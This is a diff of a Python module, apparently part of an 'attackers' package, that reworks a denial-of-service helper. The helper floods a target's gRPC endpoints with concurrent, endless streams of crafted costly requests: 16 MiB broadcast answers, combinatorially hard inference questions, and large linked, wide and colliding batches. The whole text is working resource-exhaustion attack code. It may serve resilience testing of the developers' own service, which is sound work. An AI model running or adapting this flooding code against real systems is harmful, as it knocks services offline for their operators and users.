@@ -1,5 +1,8 @@
 """Few bytes that take long to answer."""
 
+from collections.abc import Iterable
+from itertools import count, repeat
+
 from attackers.payloads import (
     BATCH,
     INFER,
@@ -20,16 +23,17 @@ _AT_ONCE = 8
 _WHOLE_SECONDS = 300.0
 
 
-def ask_again(address: str, path: str, message: bytes, *, at_once: int = _AT_ONCE) -> None:
-    """Asks the same for ever, so many times at once."""
-    request = grpc_message(message)
+def ask_all(address: str, path: str, messages: Iterable[bytes], *, at_once: int = _AT_ONCE) -> None:
+    """Asks one after the other, so many at once."""
+    requests = map(grpc_message, messages)
     with Connection(address) as connection:
         while not connection.closed:
             streams = [connection.open(path) for _ in range(at_once)]
             for stream in streams:
-                connection.send_data(stream, request, end=True)
+                connection.send_data(stream, next(requests), end=True)
             for stream in streams:
                 connection.await_end(stream, seconds=_WHOLE_SECONDS)
+                connection.bodies.pop(stream, None)
 
 
 def odd_strides(address: str) -> None:
@@ -47,29 +51,29 @@ def odd_strides(address: str) -> None:
 
 def broadcasts(address: str) -> None:
     """Answers of 16 MiB to requests of some bytes; they are taken."""
-    ask_again(address, STATIC, broadcast(16 * MIB - 64), at_once=4)
+    ask_all(address, STATIC, repeat(broadcast(16 * MIB - 64)), at_once=4)
 
 
 def hard_questions(address: str) -> None:
     """Questions whose unknowns multiply."""
-    ask_again(address, INFER, build_hard_question(), at_once=30)
+    ask_all(address, INFER, map(build_hard_question, count()), at_once=30)
 
 
 def linked_batches(address: str) -> None:
     """Batches of 110 KB whose items, of 39 bytes each, ask about eight unknowns of the first."""
-    ask_again(address, BATCH, build_linked_batch(_SMALL_BATCH))
+    ask_all(address, BATCH, repeat(build_linked_batch(_SMALL_BATCH)))
 
 
 def large_linked_batches(address: str) -> None:
     """The same of 4 MiB."""
-    ask_again(address, BATCH, build_linked_batch(_LARGE_BATCH))
+    ask_all(address, BATCH, repeat(build_linked_batch(_LARGE_BATCH)))
 
 
 def wide_batches(address: str) -> None:
     """Batches of 110 KB whose items have 64 products of unknowns explained."""
-    ask_again(address, BATCH, build_wide_batch(_SMALL_BATCH))
+    ask_all(address, BATCH, repeat(build_wide_batch(_SMALL_BATCH)))
 
 
 def large_colliding_batches(address: str) -> None:
     """The same of 4 MiB."""
-    ask_again(address, BATCH, build_colliding_batch(_LARGE_BATCH))
+    ask_all(address, BATCH, repeat(build_colliding_batch(_LARGE_BATCH)))
